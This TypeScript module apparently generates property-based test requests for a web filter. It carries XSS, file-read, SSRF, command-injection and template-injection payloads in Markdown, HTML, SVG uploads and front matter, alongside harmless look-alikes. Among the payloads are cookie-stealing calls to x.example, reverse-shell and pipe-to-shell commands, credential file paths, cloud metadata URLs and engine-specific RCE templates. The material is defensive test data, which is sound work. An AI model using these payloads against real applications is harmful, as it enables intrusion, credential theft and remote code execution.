// Attacks in rich-text fields (misses24): Markdown comments, wiki pages and README uploads, HTML from a
// rich-text editor, SVG images uploaded as multipart parts, a post with YAML front matter. The payload takes
// the form the field's own syntax gives it: a Markdown link or image whose target is a script URL, a file, an
// internal address or a command substitution (`[x](javascript:...)`, `![x](file:///etc/passwd)`), a reference
// definition or an autolink, raw HTML inside Markdown, an SVG element that runs script, loads a file or a URL
// (`<svg onload>`, `<image href=...>`, `<animate values=javascript:...>`, `<foreignObject>`), an ImageMagick-
// style delegate in an image URL, a template expression or a Python object walk in the text (`{{...}}`,
// `{}.__class__`), a shell line in a front-matter field. Each is drawn from parts (scheme spellings, paths,
// hosts, commands, engines); the honest look-alikes are the same carriers with ordinary content: links,
// images, tables, code fences with build commands, SVG icons, templates' placeholders, named anchors.
import fc from "fast-check";
import type { Req } from "../engine.js";
import { rng, type R } from "./rng.js";

const pick = <T>(r: R, xs: readonly T[]): T => xs[r(xs.length)];
const host: [string, string] = ["host", "wiki.local"];

export const RICH_CATEGORIES = ["xss", "lfi", "ssrf", "rce", "ssti"] as const;
export type RichCategory = (typeof RICH_CATEGORIES)[number];

// ---------------------------------------------------------------- parts

/** `javascript:` as a browser still reads it: case, a tab or line break inside, an entity for the colon. */
function jsScheme(r: R): string {
  const word = pick(r, ["javascript", "JavaScript", "JAVASCRIPT", "javas\tcript", "java\nscript", "jav&#x61;script"]);
  return word + pick(r, [":", ":", "&#58;", "&colon;", "&#x3a;"]);
}
const jsCall = (r: R) => pick(r, ["alert(1)", "alert(document.domain)", "prompt(document.cookie)", "fetch('//x.example/?c='+document.cookie)", "eval(atob('YWxlcnQoMSk='))", "location='//x.example/?'+document.cookie", "confirm`1`"]);
const file = (r: R) => pick(r, ["/etc/passwd", "/etc/shadow", "/proc/self/environ", "/root/.ssh/id_rsa", "/var/run/secrets/kubernetes.io/serviceaccount/token", "C:/Windows/win.ini"]);
const dots = (r: R) => "../".repeat(3 + r(5));
const internal = (r: R) => pick(r, [
  "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://metadata.google.internal/computeMetadata/v1/instance/",
  "http://127.0.0.1:8080/admin", "http://localhost:6379/", "http://[::1]/server-status", "http://0x7f000001/", "http://10.0.0.12:9200/_cat/indices",
  "gopher://127.0.0.1:6379/_FLUSHALL", "http://169.254.169.254/metadata/identity/oauth2/token",
]);
const command = (r: R) => pick(r, ["id", "whoami", "uname -a", "cat /etc/passwd", "curl -s http://x.example/s.sh|sh", "wget -qO- x.example/a|bash", "nc -e /bin/sh x.example 4444", "sleep 10"]);

// ---------------------------------------------------------------- payloads by category, in the field's syntax

const XSS: ((r: R) => string)[] = [
  (r) => `[${pick(r, ["click here", "docs", "report", "x"])}](${jsScheme(r)}${jsCall(r)})`,
  (r) => `![${pick(r, ["logo", "img", ""])}](${jsScheme(r)}${jsCall(r)})`,
  (r) => `See [the notes][${1 + r(9)}].\n\n[${1 + r(9)}]: ${jsScheme(r)}${jsCall(r)}`,
  (r) => `<${jsScheme(r).replace(/&[^;]+;/, ":")}${jsCall(r)}>`,
  (r) => `[a](data:text/html;base64,${Buffer.from(`<script>${jsCall(r)}</script>`).toString("base64")})`,
  (r) => `Thanks!\n\n<img src=x onerror=${jsCall(r)}>`,
  (r) => `<details open ontoggle=${jsCall(r)}><summary>more</summary></details>`,
  (r) => `![x](https://cdn.example/a.png"onerror="${jsCall(r)})`,
  (r) => `<a href="${jsScheme(r)}${jsCall(r)}">${pick(r, ["Download", "here"])}</a>`,
  (r) => `<p>hi</p><iframe srcdoc="&lt;script&gt;${jsCall(r)}&lt;/script&gt;"></iframe>`,
];
/** SVG documents that run script (an upload served back from the application's origin). */
const SVG_XSS: ((r: R) => string)[] = [
  (r) => `<svg xmlns="http://www.w3.org/2000/svg" onload="${jsCall(r)}"><rect width="10" height="10"/></svg>`,
  (r) => `<svg xmlns="http://www.w3.org/2000/svg"><script>${jsCall(r)}</script></svg>`,
  (r) => `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="${jsScheme(r).replace(/&[^;]+;/, ":")}${jsCall(r)}"><text x="1" y="9">open</text></a></svg>`,
  (r) => `<svg xmlns="http://www.w3.org/2000/svg"><a><animate attributeName="href" values="javascript:${jsCall(r)}"/><text x="1" y="9">go</text></a></svg>`,
  (r) => `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${jsCall(r)}"></iframe></foreignObject></svg>`,
  (r) => `<svg xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="${jsCall(r)}"/></svg>`,
];
const LFI: ((r: R) => string)[] = [
  (r) => `![${pick(r, ["diagram", "x"])}](${dots(r)}${file(r).slice(1)})`,
  (r) => `![x](file://${file(r)})`,
  (r) => `[attachment](${pick(r, ["file://", "file://localhost"])}${file(r)})`,
  (r) => `{% include ${dots(r)}${file(r).slice(1)} %}`,
  (r) => `<!--#include file="${dots(r)}${file(r).slice(1)}" -->`,
  (r) => `<img src="${dots(r)}${file(r).slice(1)}">`,
];
const SVG_LFI: ((r: R) => string)[] = [
  (r) => `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="file://${file(r)}" width="100" height="100"/></svg>`,
  (r) => `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file://${file(r)}">]><svg xmlns="http://www.w3.org/2000/svg"><text x="0" y="20">&x;</text></svg>`,
];
const SSRF: ((r: R) => string)[] = [
  (r) => `![${pick(r, ["status", "chart"])}](${internal(r)})`,
  (r) => `[health](${internal(r)})`,
  (r) => `<img src="${internal(r)}" alt="chart">`,
  (r) => `[ref]: ${internal(r)}\n\n![status][ref]`,
];
const SVG_SSRF: ((r: R) => string)[] = [
  (r) => `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${internal(r)}" width="10" height="10"/></svg>`,
  (r) => `<svg xmlns="http://www.w3.org/2000/svg"><use href="${internal(r)}#icon"/></svg>`,
];
/** A command where a converter or a delegate puts the text on a shell line (image URLs, front matter, file names). */
const RCE: ((r: R) => string)[] = [
  (r) => `![x](https://x.example/a.png"|${command(r)}")`,
  (r) => `![x](https://x.example/$(${command(r)}).png)`,
  (r) => `[report](\`${command(r)}\`)`,
  (r) => `Hello ;${command(r)};`,
  (r) => `<img src="https://x.example/a.jpg&quot;|${command(r)}&quot;">`,
];
const SVG_RCE: ((r: R) => string)[] = [
  (r) => `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="https://x.example/a.jpg&quot;|${command(r)}&quot;" width="1" height="1"/></svg>`,
  (r) => `push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://x.example/a.jpg"|${command(r)}")'\npop graphic-context`,
];
/** Template expressions and Python object walks as they sit in a rendered text, in nine engines' syntax. */
const SSTI: ((r: R) => string)[] = [
  (r) => `Hi {{ ${pick(r, ["''", "()", "[]", "{}"])}.__class__.${pick(r, ["__mro__[1]", "__base__", "__bases__[0]"])}.__subclasses__() }}`,
  (r) => `${pick(r, ["''", "()", "{}"])}.__class__.${pick(r, ["__mro__[1]", "__base__", "__bases__[0]"])}.__subclasses__()`,
  (r) => `${pick(r, ["config", "self", "cycler", "lipsum", "joiner", "request.application"])}.__init__.__globals__${pick(r, [".os.popen", "['os'].popen"])}('${command(r)}').read()`,
  (r) => `{{ ${pick(r, ["cycler", "lipsum", "joiner"])}.__init__.__globals__.os.popen('${command(r)}').read() }}`,
  (r) => `{{_self.env.registerUndefinedFilterCallback("${pick(r, ["exec", "system", "passthru"])}")}}{{_self.env.getFilter("${command(r)}")}}`, // Twig
  (r) => `<#assign ex="freemarker.template.utility.Execute"?new()>\${ex("${command(r)}")}`, // FreeMarker
  (r) => `#set($e=$x.getClass().forName("java.lang.Runtime").getRuntime().exec("${command(r)}"))`, // Velocity
  (r) => `<%= ${pick(r, [`system('${command(r)}')`, `\`${command(r)}\``, `%x(${command(r)})`, `IO.popen('${command(r)}').read`])} %>`, // ERB
  (r) => `[[\${T(java.lang.Runtime).getRuntime().exec('${command(r)}')}]]`, // Thymeleaf
  (r) => `{{#with "s" as |string|}}{{#with split as |list|}}{{this.constructor}}{{/with}}{{/with}}`, // Handlebars
  (r) => `#{global.process.mainModule.require('child_process').execSync('${command(r)}')}`, // Pug
  (r) => `{system('${command(r)}')}`, // Smarty
  (r) => `{php}passthru('${command(r)}');{/php}`, // Smarty 2
];

// ---------------------------------------------------------------- carriers

export type RichCarrier = "md-json" | "md-form" | "html-json" | "md-upload" | "svg-upload" | "front-matter";
export const RICH_CARRIERS: RichCarrier[] = ["md-json", "md-form", "html-json", "md-upload", "svg-upload", "front-matter"];

const intro = (r: R) => pick(r, ["", "Fixed in the last release.\n\n", "## Notes\n\n", "Thanks for the review! ", "| a | b |\n|---|---|\n| 1 | 2 |\n\n"]);
const multipart = (name: string, type: string, content: string, fields: [string, string][] = []): Req => {
  const b = "----rt" + name.length.toString(16) + "7f3a";
  const parts = [...fields.map(([k, v]) => `--${b}\r\nContent-Disposition: form-data; name="${k}"\r\n\r\n${v}\r\n`),
    `--${b}\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: ${type}\r\n\r\n${content}\r\n`, `--${b}--\r\n`];
  return { method: "POST", path: "/api/uploads", headers: [host, ["content-type", `multipart/form-data; boundary=${b}`]], body: parts.join("") };
};

/** `text` (Markdown, HTML or an SVG document, as `svg` says) in a carrier. */
function carry(carrier: RichCarrier, text: string, svg: boolean, r: R): Req {
  if (svg || carrier === "svg-upload") {
    return multipart(pick(r, ["avatar.svg", "logo.svg", "diagram.svg"]), pick(r, ["image/svg+xml", "image/svg+xml", "application/octet-stream"]), text, [["album", "team"]]);
  }
  switch (carrier) {
    case "md-json": return { method: "POST", path: pick(r, ["/api/issues/42/comments", "/api/wiki/pages", "/api/posts"]), headers: [host, ["content-type", "application/json"]], body: JSON.stringify({ [pick(r, ["body", "content", "markdown", "description"])]: text, draft: false }) };
    case "md-form": return { method: "POST", path: "/wiki/edit", headers: [host, ["content-type", "application/x-www-form-urlencoded"]], body: `title=Home&text=${encodeURIComponent(text)}&summary=edit` };
    case "html-json": return { method: "PUT", path: "/api/articles/7", headers: [host, ["content-type", "application/json"]], body: JSON.stringify({ title: "Release notes", content_html: text.includes("<") ? text : `<p>${text}</p>` }) };
    case "md-upload": return multipart(pick(r, ["README.md", "notes.md", "CHANGELOG.md"]), pick(r, ["text/markdown", "text/plain"]), text);
    default: return { method: "POST", path: "/api/posts", headers: [host, ["content-type", "text/plain; charset=utf-8"]], body: `---\ntitle: ${pick(r, ["Hello", "Release 2.1"])}\ntags: [news]\n---\n\n${text}\n` };
  }
}

/** For each category, the payloads that go in a text field and those that are a whole SVG document. */
export const RICH_SHAPES: Record<RichCategory, { text: ((r: R) => string)[]; svg: ((r: R) => string)[] }> = {
  xss: { text: XSS, svg: SVG_XSS }, lfi: { text: LFI, svg: SVG_LFI }, ssrf: { text: SSRF, svg: SVG_SSRF },
  rce: { text: RCE, svg: SVG_RCE }, ssti: { text: SSTI, svg: [] },
};

export interface RichAttack { family: string; k: number; category: RichCategory; carrier: RichCarrier; svg: boolean; payload: string; req: Req }

export const richAttack: fc.Arbitrary<RichAttack> = fc.record({ seed: fc.nat(), c: fc.nat(RICH_CATEGORIES.length - 1), k: fc.nat(63), w: fc.nat(RICH_CARRIERS.length - 1) })
  .map(({ seed, c, k: k0, w }) => {
    const r = rng(seed);
    const category = RICH_CATEGORIES[c];
    const carrier = RICH_CARRIERS[w];
    const { text, svg: svgs } = RICH_SHAPES[category];
    // an SVG upload carries an SVG document when the category has one; the other carriers a text
    const svg = carrier === "svg-upload" && svgs.length > 0;
    const list = svg ? svgs : text;
    const k = k0 % list.length;
    const payload = list[k](r);
    // (a template expression in an SVG upload sits in its text, escaped as XML)
    const body = svg ? payload : carrier === "svg-upload" ? `<svg xmlns="http://www.w3.org/2000/svg"><text x="0" y="20">${payload.replace(/&/g, "&amp;").replace(/</g, "&lt;")}</text></svg>`
      : intro(r) + payload + pick(r, ["", "\n", "\n\n-- sent from my phone"]);
    return { family: `${category}/${svg ? "svg" : "text"}`, k, category, carrier, svg, payload, req: carry(carrier, body, svg, r) };
  });

// ---------------------------------------------------------------- honest look-alikes

const HONEST_TEXT: ((r: R) => string)[] = [
  (r) => `See [the docs](https://docs.example.com/${pick(r, ["install", "api/v2", "faq#auth"])}) and ![logo](/static/img/logo.png "Logo").`,
  (r) => `[${pick(r, ["Home", "Back"])}](#${pick(r, ["top", "install"])}) | [Issues][1]\n\n[1]: https://github.com/example/app/issues`,
  (r) => `Install:\n\n\`\`\`bash\n${pick(r, ["npm install", "make build", "git clone https://github.com/example/app.git", "pip install -r requirements.txt"])}\n\`\`\`\n`,
  () => "Links must use `https:`; script URLs are removed by the sanitiser.",
  () => "| Name | Value |\n|------|-------|\n| id | 42 |\n| path | /var/lib/app |",
  (r) => `Hi {{ ${pick(r, ["user.name", "customer.first_name", "order.id"])} }}, your order ships ${pick(r, ["today", "on {{ date }}"])}.`,
  () => "{{#each items}}<li>{{name}}</li>{{/each}}",
  () => "Use `self.__class__.__name__` to log the class name.",
  () => "<p>See <a href=\"https://example.com/a\">the page</a> and <img src=\"/a.png\" alt=\"a\"></p>",
  () => "<h2 id=\"intro\">Intro</h2><p><a id=\"fn1\" name=\"fn1\" href=\"#note1\">[1]</a> footnote</p>",
  () => "<p><a id=\"top\"></a>Back to <a href=\"https://example.com\">site</a></p>",
  () => "Path is `../config/app.yml`, relative to `src/`.",
  () => "Ping me at http://localhost:3000 when the dev server runs.",
  () => "Price: ${price} — total #{qty} items",
];
const HONEST_SVG: ((r: R) => string)[] = [
  (r) => `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24" width="${16 + r(32)}"><path d="M12 2L2 7l10 5 10-5-10-5z" fill="#${r(0xffffff).toString(16).padStart(6, "0")}"/></svg>`,
  () => `<?xml version="1.0" encoding="UTF-8"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64"><defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient></defs><rect width="64" height="64" fill="url(#g)"/><use xlink:href="#g"/></svg>`,
  () => `<svg xmlns="http://www.w3.org/2000/svg"><a href="https://example.com/"><text x="1" y="12">Example</text></a><animate attributeName="opacity" values="0;1" dur="1s"/></svg>`,
];

export const richLookalike: fc.Arbitrary<{ req: Req }> = fc.record({ seed: fc.nat(), k: fc.nat(63), w: fc.nat(RICH_CARRIERS.length - 1) }).map(({ seed, k, w }) => {
  const r = rng(seed);
  const carrier = RICH_CARRIERS[w];
  const svg = carrier === "svg-upload";
  const list = svg ? HONEST_SVG : HONEST_TEXT;
  const text = list[k % list.length](r);
  return { req: carry(carrier, svg ? text : intro(r) + text, svg, r) };
});
